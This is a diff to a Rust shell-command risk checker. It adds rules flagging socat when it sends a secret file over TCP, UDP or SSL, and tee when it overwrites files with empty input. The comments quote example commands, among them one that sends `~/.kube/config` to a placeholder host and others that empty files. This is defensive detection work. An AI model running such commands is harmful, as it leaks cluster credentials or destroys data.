@@ -272,6 +272,28 @@ fn special(
                     sh.shell_text(c, "`socat EXEC:`");
                 }
             }
+            // `socat -u FILE:~/.kube/config TCP:host:port`: a secret file read into a socket.
+            let network = args.iter().any(|a| {
+                let upper = a.to_ascii_uppercase();
+                ["TCP", "UDP", "SCTP", "OPENSSL", "SSL", "DCCP"]
+                    .iter()
+                    .any(|p| upper.starts_with(p))
+            });
+            let secret = args.iter().find_map(|a| {
+                let (kind, rest) = a.split_once(':')?;
+                let file = matches!(
+                    kind.to_ascii_uppercase().as_str(),
+                    "FILE" | "OPEN" | "GOPEN" | "CREATE"
+                );
+                let path = rest.split(',').next().unwrap_or(rest);
+                file.then(|| sh.secret_file(path)).flatten()
+            });
+            if network && let Some(f) = secret {
+                sh.add(
+                    Admin,
+                    format!("{cmd} sends the secret file `{f}` over the network"),
+                );
+            }
             None
         }
         // `expect -c 'spawn rm -rf x'`: `spawn`, `exec` and `system` run commands.
@@ -321,8 +343,20 @@ fn special(
         }
         H::Tee => {
             let append = s.has(&["-a", "--append"]);
+            // Nothing to copy (`echo '' | tee a b`, `tee f < /dev/null`) empties each file.
+            let nothing = match stdin {
+                Input::Literal(t) => t.trim().is_empty(),
+                Input::Unknown(what) => what == "the file `/dev/null`",
+                Input::None => false,
+            };
             for f in ops.iter().filter(|o| o.as_str() != "/dev/null") {
                 write_path_to(sh, f, append, cmd);
+                if nothing && !append {
+                    sh.add(
+                        Destructive,
+                        format!("{cmd} writes nothing over `{f}`, which empties it"),
+                    );
+                }
             }
             sh.add(Read, format!("{cmd} copies its input"));
             Some(match stdin {
